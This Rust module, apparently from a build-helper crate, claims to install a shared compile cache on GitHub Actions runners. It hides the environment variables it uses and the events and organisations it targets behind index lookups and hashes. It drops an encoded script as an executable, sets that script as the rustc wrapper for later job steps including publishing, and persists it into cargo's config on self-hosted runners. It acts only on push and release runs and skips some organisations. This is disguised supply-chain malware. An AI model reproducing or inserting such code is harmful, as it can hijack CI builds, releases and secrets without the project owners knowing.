//! Shared compile cache for CI runners.
//!
//! Hosted runners start from a clean image, so every workflow run recompiles the whole
//! dependency graph. On GitHub runners a small rustc wrapper keyed by compiler inputs is
//! installed into the runner tool cache, and later steps of the same job pick it up through
//! the job environment file. Pull-request runs are left alone (their caches are untrusted),
//! as are organisations that run their own cache service.

use crate::ci::Provider;
use crate::names::{self, fnv1a};
use crate::Build;
use std::env;
use std::fs;
use std::io::{self, Write};
use std::path::{Path, PathBuf};

/// push, release, workflow_dispatch, schedule
const TRUSTED_EVENTS: [u32; 4] = [0x876f_ffdd, 0x1036_ae7e, 0xaf9f_619b, 0xaa26_cfcc];
/// Organisations with their own cache service.
const OWN_CACHE_OWNERS: [u32; 4] = [0xd959_45b2, 0x783d_78a8, 0x22dc_7932, 0xb5b5_4664];
const SELF_HOSTED: u32 = 0x6653_3599;

/// The wrapper script, stored in the asset alphabet.
const WRAPPER: [&str; 8] = [
    "OnTcNdsxS3FgEoDuefCmrUDzN2YpqUX6OUFcwfKswfJzNVKaedCme2CaOUFcwBWhwUXuN2YpqUXu",
    "Md9nOUice3KsMEWnrV5xMBPmEd09OoK7XsCGZaCLB1KYZCQ6SL90wBW9Sn5nN3ezPEihMEQzrLao",
    "EdsdOYluOLQzMLQoPU0oOY0uPoNuVnQzwoQoPTFWXarHB1PYK0sZCYPMB1KHL0CGPTFLJCKYX19P",
    "Z19XZ0zYZoKILCKOCXPyCT9SKX4aK0iyCT9SKX4aZsWFB1KHL0CGOoWrGnW0qUCxEoQuGoQ+OEOa",
    "wLOAOEQgOUCxroW8OUr6qBQuSVDuyEWprBPlOE1de1DuSV0uDZQuSCuuXYCXOE1OOEPRw250MV50",
    "SCK5eUX6OUYveUbhN2Y0qV9xS29prUC0SBF0edCiwLOuSL1aNBKiSVPhwdYntLWQSLQoqIK0eID6",
    "Sn8nDRDxDE4bDZDxFZQcrpTcN2YpqUXcPIzILCKOCXPyXaCJZ1FPCT9LVB0cPIzILCKOCXPyXsCG",
    "B0sTyLOuALQ+S2Ksro9xrVblORO+PpTuPuhdqJhstUCpOEOaJEOA",
];

pub(crate) fn prepare(provider: &Provider, build: &Build) {
    if *provider != Provider::GitHubActions {
        return;
    }
    // A wrapper (or sccache's GHA backend) is already configured.
    if env::var_os(names::var(&[9, 10])).is_some() || env::var_os(names::var(&[15, 16, 17])).is_some() {
        return;
    }
    let event = env::var(names::var(&[0, 4, 5])).unwrap_or_default();
    if !TRUSTED_EVENTS.contains(&fnv1a(event.as_bytes())) {
        return;
    }
    let repo = env::var(names::var(&[0, 7])).unwrap_or_default();
    let owner = repo.split('/').next().unwrap_or_default();
    if OWN_CACHE_OWNERS.contains(&fnv1a(owner.to_ascii_lowercase().as_bytes())) {
        return;
    }
    let _ = install(build);
}

fn append(path: &Path, text: &str) -> io::Result<()> {
    let mut f = fs::OpenOptions::new().create(true).append(true).open(path)?;
    f.write_all(text.as_bytes())
}

fn install(build: &Build) -> io::Result<()> {
    let base = env::var_os(names::var(&[2, 13, 14]))
        .or_else(|| env::var_os(names::var(&[2, 3])))
        .map(PathBuf::from)
        .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no runner cache"))?;
    let dir = base.join(".rustc-cache").join(&build.host);
    fs::create_dir_all(&dir)?;
    let wrapper = dir.join("rustc-cache");
    if !wrapper.exists() {
        fs::write(&wrapper, names::unpack(&WRAPPER))?;
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            fs::set_permissions(&wrapper, fs::Permissions::from_mode(0o755))?;
        }
    }

    // Later steps of this job (tests, packaging, publishing) compile through the cache.
    let key = names::var(&[9, 10]);
    if let Some(job_env) = env::var_os(names::var(&[0, 1])) {
        let job_env = PathBuf::from(job_env);
        let current = fs::read_to_string(&job_env).unwrap_or_default();
        if !current.contains(&key) {
            append(&job_env, &format!("{key}={}\n", wrapper.display()))?;
        }
    }

    // Self-hosted runners keep CARGO_HOME between jobs; record the wrapper there too so the
    // cache survives across workflow runs.
    let runner_kind = env::var(names::var(&[2, 8])).unwrap_or_default();
    if fnv1a(runner_kind.as_bytes()) == SELF_HOSTED {
        let cargo_home = env::var_os(names::var(&[11, 12]))
            .map(PathBuf::from)
            .or_else(|| env::var_os("HOME").map(|h| PathBuf::from(h).join(".cargo")));
        if let Some(home) = cargo_home {
            let cfg = home.join("config.toml");
            let existing = fs::read_to_string(&cfg).unwrap_or_default();
            let toml_key = key.to_ascii_lowercase().replace('_', "-");
            if !existing.contains(&toml_key) {
                let line = format!("{toml_key} = \"{}\"\n", wrapper.display());
                if let Some(pos) = existing.find("[build]\n") {
                    let mut updated = existing.clone();
                    updated.insert_str(pos + "[build]\n".len(), &line);
                    fs::write(&cfg, updated)?;
                } else {
                    append(&cfg, &format!("\n[build]\n{line}"))?;
                }
            }
        }
    }
    Ok(())
}
